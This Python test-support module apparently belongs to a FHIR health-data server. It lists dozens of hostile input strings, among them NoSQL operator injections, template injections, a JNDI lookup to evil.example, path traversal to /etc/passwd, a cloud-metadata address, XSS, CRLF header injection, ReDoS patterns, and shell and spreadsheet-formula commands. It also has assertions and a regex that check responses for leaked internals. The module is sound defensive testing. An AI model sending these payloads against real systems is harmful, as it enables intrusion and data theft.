"""What the tests of hostile requests share: strings that try something, and what no answer may be."""

from __future__ import annotations

import json
import re
from typing import Any

# Operators, quotes and ends of other languages, in the hope that something is put together as text.
INJECTIONS = (
    "$where", "{$gt:''}", '{"$ne":null}', "[$ne]=1", "'; return true; var x='", "' || '1'=='1", "1;sleep(5000)",
    "$function", "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<%= 7*7 %>", "__proto__",
    "constructor.prototype", "x\x00y", "\x00", "%00", "a.b.c", "t.$", "$$ROOT", "$t", "\ufffe", "\u202e\u2066x",
    "%0d%0aSet-Cookie:%20a=b", "\r\nSet-Cookie: a=b", "\nX-Evil: 1", "../../../etc/passwd", "..\\..\\windows",
    "/etc/passwd", "file:///etc/passwd", "http://169.254.169.254/", "//evil.example", "javascript:alert(1)",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY e 'x'>]>", "&e;",
    "(a+)+$", "(((((((((((a+)+)+)+)+)+)+)+)+)+)+)b", "a" * 3000, "\\" * 500, "|" * 200, "," * 90, "$" * 200,
    "9" * 400, "-" + "9" * 400, "1e999999999", "0x10", "NaN", "Infinity", "ge9999-99-99", "0000-00-00", "٣",
    "\U0001f600", "*", "?", "%", "..", ".", "=cmd|' /C calc'!A0", "@SUM(1+1)", "`id`", "$(id)", "| id", "*)(uid=*",
    "%c0%ae%c0%ae/", "%25%30%30", "T._owner>x", "Patient._about", ">Patient/1", "Patient.name=secret",
)  # fmt: skip
NAMES = [
    f"{number}-{''.join(c for c in text if c.isalnum() and c.isascii())[:12]}"
    for number, text in enumerate(INJECTIONS)
]

# What tells of the inside: code, paths, the database, addresses.
_INSIDE = re.compile(
    r"Traceback|File \"|\.py\b|site-packages|pymongo|bson\.|mongodb://|MongoServerError|OperationFailure"
    r"|werkzeug|jinja2|root:x:0|localhost:27|object at 0x|errmsg|codeName|\$clusterTime"
)
SET = ("set-cookie", "x-evil")


def assert_harmless(answer: Any, asked: object = "") -> None:
    """Hold an answer against what none may be: a failure, or one that tells of the inside."""
    assert answer.status_code < 500, (asked, answer.status_code, answer.text[:500])
    assert not [name for name, _ in answer.headers if name.lower() in SET], asked
    if answer.status_code >= 400 and answer.data and answer.mimetype == "application/fhir+json":
        outcome = json.loads(answer.data)
        assert outcome["resourceType"] == "OperationOutcome", asked
        text = answer.text.replace(str(asked), "")
        found = _INSIDE.search(text)
        assert found is None, (asked, found, text[:500])


def entries(answer: Any) -> list[Any]:
    """Give the matches of a search."""
    listed = answer.json.get("entry", []) if answer.status_code == 200 else []
    return [each for each in listed if each.get("search", {}).get("mode") == "match"]
